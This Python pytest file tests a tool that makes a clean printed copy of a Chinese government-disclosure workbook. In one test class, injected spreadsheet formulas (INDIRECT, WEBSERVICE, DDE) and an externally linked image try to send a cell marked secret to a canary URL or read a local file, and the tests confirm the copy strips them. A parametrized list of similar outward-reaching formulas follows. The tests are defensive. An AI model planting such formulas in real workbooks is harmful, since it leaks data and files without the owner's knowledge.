"""The printed copy: all figures of the attachments, and nothing that could fetch anything."""

import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from pypdf import PdfReader
from typer.testing import CliRunner

from tests.conftest import EXAMPLE
from tests.zwgk.documents.canary import SECRET, Canary, canary
from tests.zwgk.documents.packages import change_file, replace
from tests.zwgk.sheets import spoil
from zwgk import commands
from zwgk.cli import app
from zwgk.documents import office
from zwgk.documents.pdf import attachments_pdf
from zwgk.errors import Refusal
from zwgk.files import run_on_file
from zwgk.workbook.print_copy import print_copy

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8ffff3f0005fe02fedccc59e7"
    "0000000049454e44ae426082"
)


@pytest.fixture(scope="module")
def recomputed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("recomputed") / "通报.xlsx"
    assert CliRunner().invoke(app, ["recompute", str(EXAMPLE), "-o", str(target)]).exit_code == 0
    return target


@pytest.fixture
def counted(recomputed: Path, tmp_path: Path) -> Path:
    """Return the example with its attachments written."""
    return Path(shutil.copy(recomputed, tmp_path))


def copied(workbook: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(BytesIO(print_copy(workbook).content))


def units(workbook: Path, sheet: str = "附件2") -> list[object]:
    """Return the names in the printed rows that are not hidden."""
    page = copied(workbook)[sheet]
    last = int(re.sub(r".*\$", "", page.print_area.split("!")[-1]))
    shown = [row for row in range(6, last + 1) if not page.row_dimensions[row].hidden]
    return [page.cell(row, 2).value for row in shown]


def names_of(published: dict[int, list[list[str]]], number: int) -> list[str]:
    return [row[1] for row in published[number][1:]]


def part_of(workbook: Path, sheet: str) -> str:
    """Return the part of a sheet in a workbook written by openpyxl."""
    return f"xl/worksheets/sheet{openpyxl.load_workbook(workbook).sheetnames.index(sheet) + 1}.xml"


def rename(book: openpyxl.Workbook, name: str) -> None:
    book["附件2"].title = name


def put_formulas(workbook: Path, *formulas: tuple[str, str, str]) -> None:
    """Put (cell, formula, result) on 附件2, as Excel stores them."""

    def mark(book: openpyxl.Workbook) -> None:
        for number, (cell, _, _) in enumerate(formulas):
            book["附件2"][cell] = f"=0+{number}"

    def fill(xml: bytes) -> bytes:
        for number, (_, formula, result) in enumerate(formulas):
            old = re.compile(rb" ?(?:t=\"\w+\")?><f>0\+" + str(number).encode() + rb"</f><v ?(?:/>|></v>)")
            new = f' t="str"><f>{escape(formula)}</f><v>{result}</v>'.encode()
            xml, count = old.subn(lambda _, new=new: new, xml)
            assert count == 1, formula
        return xml

    spoil(workbook, mark)
    change_file(workbook, {part_of(workbook, "附件2"): fill})


def test_it_holds_the_attachments_and_no_other_sheet(counted: Path) -> None:
    book = copied(counted)
    assert book.sheetnames == ["附件1", "附件2", "附件3"]
    assert list(book.defined_names) == ["显示颜色"]
    assert book.active.title == "附件1"


def test_no_helper_number_is_next_to_a_blank_of_the_paper(counted: Path) -> None:
    """LibreOffice painted a quota of a hidden column as ### over the blank total of a unit without a report; the space
    between stops it."""
    page = copied(counted)["附件2"]
    assert any(isinstance(cell.value, int) for row in page["H6:J40"] for cell in row)
    assert {cell.value for (cell,) in page["G6:G40"]} == {" "}


@pytest.mark.office
def test_a_unit_without_a_report_has_a_blank_total_on_paper(example: Path, tmp_path: Path) -> None:
    def blank(book: openpyxl.Workbook) -> None:
        for row in range(7, 19):
            for column in range(2, 5):
                if isinstance(book["财政局"].cell(row, column).value, int):
                    book["财政局"].cell(row, column).value = None

    spoil(example, blank)
    run_on_file(example, commands.recompute)
    attachments_pdf(example, tmp_path / "附件.pdf")
    text = "".join(page.extract_text() for page in PdfReader(tmp_path / "附件.pdf").pages)
    assert "财政局" in text
    assert "#" not in text


def test_its_figures_are_the_published_ones(counted: Path, published: dict[int, list[list[str]]]) -> None:
    page = copied(counted)["附件2"]
    rows = [[str(cell.value) for cell in row] for row in page["A6:F40"]]
    assert rows == published[2][1:]


def test_a_formula_is_printed_as_its_result(counted: Path) -> None:
    put_formulas(counted, ("B7", 'IF(1=1,"财政局"&"（代）","")', "财政局（代）"))
    assert units(counted)[1] == "财政局（代）"


def test_a_formula_without_a_result_is_named(counted: Path) -> None:
    spoil(counted, lambda book: book["附件2"].__setitem__("B7", "=A7"))
    with pytest.raises(Refusal, match="“附件2”B7 是公式，文件里没有它的结果：请在 Excel 或 LibreOffice 里打开"):
        print_copy(counted)


class TestNothingIsFetched:
    """Ways for LibreOffice to fetch from the network, or to read a file into the paper."""

    def spoiled(self, workbook: Path, bird: Canary) -> None:
        spoil(workbook, lambda book: book["门户网站"].__setitem__("Z1", "机密"))
        file, url = bird.file.as_uri(), bird.url
        put_formulas(
            workbook,
            ("B6", f'INDIRECT("\'{url}/a?"&门户网站!Z1&"\'#$Sheet1.A1")', "甲"),
            ("B7", f'WEBSERVICE("{url}/b")', "乙"),
            ("B8", f"INDIRECT(\"'{file}'#$Sheet.A1\")", "丙"),
            ("B9", f'DDE("soffice","{bird.file}","Sheet.A1")', "丁"),
        )
        drawing = (
            '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><xdr:oneCellAnchor><xdr:from>'
            "<xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>5</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
            '<xdr:ext cx="900000" cy="900000"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="p"/><xdr:cNvPicPr/>'
            '</xdr:nvPicPr><xdr:blipFill><a:blip r:link="rId1"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>'
            '<xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>'
        )
        base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
        sheet = part_of(workbook, "附件2")
        red = '<conditionalFormatting sqref="C6:C9"><cfRule type="expression" priority="99" dxfId="0"><formula>'
        rule = f"{red}INDIRECT(\"'{url}/c'#$Sheet1.A1\")=1</formula></cfRule></conditionalFormatting>"
        change_file(
            workbook,
            {
                sheet: lambda xml: xml.replace(b"<printOptions", rule.encode() + b"<printOptions", 1).replace(
                    b"</worksheet>",
                    f'<drawing xmlns:r="{base}" r:id="rId1"/></worksheet>'.encode(),
                ),
                "[Content_Types].xml": replace(
                    "</Types>",
                    '<Override PartName="/xl/drawings/drawing77.xml" '
                    'ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/></Types>',
                ),
            },
            {
                "xl/drawings/drawing77.xml": drawing.encode(),
                "xl/drawings/_rels/drawing77.xml.rels": (
                    rels % f'<Relationship Id="rId1" Type="{base}/image" Target="{url}/d.png" TargetMode="External"/>'
                ).encode(),
                sheet.replace("sheets/", "sheets/_rels/") + ".rels": (
                    rels % f'<Relationship Id="rId1" Type="{base}/drawing" Target="../drawings/drawing77.xml"/>'
                ).encode(),
            },
        )

    def test_the_copy_has_nothing_that_leads_out_of_it(self, counted: Path, tmp_path: Path) -> None:
        with canary(tmp_path) as bird:
            self.spoiled(counted, bird)
            copy = print_copy(counted)
        with zipfile.ZipFile(BytesIO(copy.content)) as package:
            for name in package.namelist():
                text = package.read(name).decode("utf-8")
                for word in (bird.url, "file:", "INDIRECT", "WEBSERVICE", "DDE(", "External", "<f>", "机密"):
                    assert word not in text, (name, word)
        assert sorted(copy.losses) == ["附件2：图片、图形或图表", "附件2：引用了别处的条件格式"]
        assert units(counted)[:4] == ["甲", "乙", "丙", "丁"]

    @pytest.mark.office
    @pytest.mark.skipif(office.find_soffice() is None, reason="没有 LibreOffice")
    def test_nobody_is_asked_and_no_file_is_read(self, counted: Path, tmp_path: Path) -> None:
        from pypdf import PdfReader

        with canary(tmp_path) as bird:
            self.spoiled(counted, bird)
            result = CliRunner().invoke(app, ["pdf", str(counted), "-o", str(tmp_path / "附件.pdf")])
            assert result.exit_code == 1, result.output
            assert "图片" in result.output
            assert bird.asked == []
            text = "".join(page.extract_text() for page in PdfReader(tmp_path / "附件.pdf").pages)
            assert SECRET not in text
            assert "丙" in text
            # The control: the workbook itself makes an office fetch and read.
            subprocess.run(
                [
                    *("soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"),
                    *("--convert-to", "pdf", "--outdir", str(tmp_path / "raw"), str(counted)),
                ],
                check=True,
                capture_output=True,
            )
            assert bird.asked != []


@pytest.mark.parametrize(
    "formula",
    [
        "INDIRECT(\"'http://a.example/b'#$Sheet1.A1\")=1",
        "C6<设置!$B$4",
        "C6<[1]Sheet1!A1",
        "COUNTIFS(栏目_类别,C6)>0",
        "WEBSERVICE(C6)=1",
        "INDIRECT (C6)=1",
        "秘密>1",
        "{1,2}=C6",
    ],
)
def test_a_conditional_format_that_reaches_out_is_left_off_and_said(counted: Path, formula: str) -> None:
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.styles import PatternFill

    rule = FormulaRule(formula=[formula], fill=PatternFill("solid", bgColor="FFFF0000"))
    spoil(counted, lambda book: book["附件2"].conditional_formatting.add("C6:C9", rule))
    copy = print_copy(counted)
    assert copy.losses == ("附件2：引用了别处的条件格式",)
    assert "FFFF0000" not in str(
        [rule.dxf for area in copied(counted)["附件2"].conditional_formatting for rule in area.rules]
    )


@pytest.mark.parametrize(
    "formula", ['AND(C6>0,$A6<>"")', "MOD(ROW(),2)=0", "C6>SUM($C$6:$C$9)/4", "LEN($B6)>10", "显示颜色"]
)
def test_a_conditional_format_of_the_clerks_own_stays(counted: Path, formula: str) -> None:
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.styles import PatternFill

    rule = FormulaRule(formula=[formula], fill=PatternFill("solid", bgColor="FFFF0000"))
    spoil(counted, lambda book: book["附件2"].conditional_formatting.add("C6:C9", rule))
    assert print_copy(counted).losses == ()
    assert [
        rule.formula
        for area in copied(counted)["附件2"].conditional_formatting
        for rule in area.rules
        if rule.formula == [formula]
    ]


class TestDisorder:
    """Whatever state a clerk left the workbook in, all rows are printed, or the hidden ones are reported."""

    @staticmethod
    def filtered(book: openpyxl.Workbook) -> None:
        page = book["附件2"]
        page.auto_filter.ref = "A5:F40"
        page.auto_filter.add_filter_column(1, ["财政局"])
        for row in (6, 8, 9, 40):
            page.row_dimensions[row].hidden = True

    @staticmethod
    def scattered(book: openpyxl.Workbook) -> None:
        from openpyxl.worksheet.views import Pane

        for page in book.worksheets:
            page.sheet_view.tabSelected = True
            page.sheet_view.zoomScale = 25
            page.sheet_view.view = "pageBreakPreview"
            page.sheet_view.pane = Pane(xSplit=2000, ySplit=2000, topLeftCell="C9", state="split")
        book.active = book.sheetnames.index("日志")
        book["附件2"].sheet_state = "hidden"

    @staticmethod
    def without_titles(book: openpyxl.Workbook) -> None:
        book["附件2"].print_title_rows = None
        book["附件2"].print_area = None

    @pytest.mark.parametrize("disorder", [filtered, scattered, without_titles])
    def test_every_unit_is_printed_once_under_repeated_heads(
        self, counted: Path, published: dict[int, list[list[str]]], disorder: Callable[[openpyxl.Workbook], None]
    ) -> None:
        spoil(counted, disorder)
        assert units(counted) == names_of(published, 2)
        page = copied(counted)["附件2"]
        assert page.print_title_rows == "$5:$5"
        assert page.sheet_state == "visible"

    @pytest.mark.parametrize(
        ("hide", "told"),
        [
            (
                lambda page: [setattr(page.row_dimensions[row], "hidden", True) for row in (7, 8, 9, 12)],
                "第 7—9 行、第 12 行",
            ),
            (lambda page: setattr(page.column_dimensions["D"], "hidden", True), "D 列"),
        ],
    )
    def test_what_is_hidden_by_hand_is_named(self, counted: Path, hide: Callable[..., object], told: str) -> None:
        spoil(counted, lambda book: hide(book["附件2"]))
        with pytest.raises(Refusal, match=f"“附件2”的{told}隐藏着，印出来会缺内容"):
            print_copy(counted)

    def test_merged_cells_over_figures_are_named(self, counted: Path) -> None:
        """Excel keeps the value of the corner only; a file made elsewhere may have all of them."""
        part = part_of(counted, "附件2")
        merged = b'<mergeCells count="2"><mergeCell ref="B7:C9"/>'
        change_file(counted, {part: lambda xml: re.sub(rb'<mergeCells count="1">', merged, xml)})
        with pytest.raises(Refusal, match="“附件2”的 B7:C9 合并成了一格，会盖住下面的数：请取消合并"):
            print_copy(counted)

    @pytest.mark.parametrize("lost", [lambda book: book.remove(book["附件2"]), lambda book: rename(book, "附件二")])
    def test_an_attachment_that_is_missing_is_named(
        self, counted: Path, lost: Callable[[openpyxl.Workbook], object]
    ) -> None:
        spoil(counted, lost)
        with pytest.raises(Refusal, match="里没有工作表“附件2”，印出来会缺"):
            print_copy(counted)

    def test_rows_hidden_by_hand_are_shown_when_written(
        self, counted: Path, published: dict[int, list[list[str]]]
    ) -> None:
        spoil(counted, lambda book: [setattr(book["附件2"].row_dimensions[row], "hidden", True) for row in (7, 8, 40)])
        assert CliRunner().invoke(app, ["recompute", str(counted)]).exit_code == 0
        assert units(counted) == names_of(published, 2)
        page = openpyxl.load_workbook(counted)["附件2"]
        assert not any(page.row_dimensions[row].hidden for row in range(6, 41))

    @pytest.mark.parametrize("first", ["$A$1:$F$39", "$A$1:$F$40", "$A$1:$F$41"])
    def test_of_two_print_areas_neither_takes_a_unit_away(
        self, counted: Path, published: dict[int, list[list[str]]], first: str
    ) -> None:
        index = openpyxl.load_workbook(counted).sheetnames.index("附件2")
        second = f'<definedName name="_xlnm.Print_Area" localSheetId="{index}">附件2!$A$1:$F$39</definedName>'
        change_file(counted, {"xl/workbook.xml": replace("</definedNames>", second + "</definedNames>")})
        change_file(counted, {"xl/workbook.xml": lambda xml: xml.replace(b"$F$40<", first[5:].encode() + b"<") + b" "})
        assert units(counted) == names_of(published, 2)


def test_the_quotas_colour_the_paper_if_the_settings_say_so(counted: Path) -> None:
    """动态 asks for 8 a month, 24 a quarter; 部门信息公开 for 3; 重点领域 for nothing."""

    def choose(book: openpyxl.Workbook) -> None:
        label = next(cell for row in book["设置"].iter_rows() for cell in row if cell.value == "打印时保留颜色")
        book["设置"].cell(label.row, label.column + 1).value = "是"

    spoil(counted, choose)
    book = copied(counted)
    assert [book["附件2"].cell(5, column).value for column in (8, 9, 10)] == [24, 3, None]
    assert book.defined_names["显示颜色"].attr_text == "TRUE"


def test_an_attachment_that_the_settings_do_not_have_is_left_off_and_said(counted: Path) -> None:
    spoil(counted, lambda book: book.create_sheet("附件4"))
    copy = print_copy(counted)
    assert openpyxl.load_workbook(BytesIO(copy.content)).sheetnames == ["附件1", "附件2", "附件3"]
    assert [loss for loss in copy.losses if loss.startswith("附件4：不在“设置”所说的附件之内")] != []


def test_its_size_does_not_grow_with_the_sheets(counted: Path) -> None:
    before = len(print_copy(counted).content)

    def add(book: openpyxl.Workbook) -> None:
        for number in range(200):
            book.copy_worksheet(book["财政局"]).title = f"单位{number}"

    spoil(counted, add)
    assert len(print_copy(counted).content) < before * 1.05
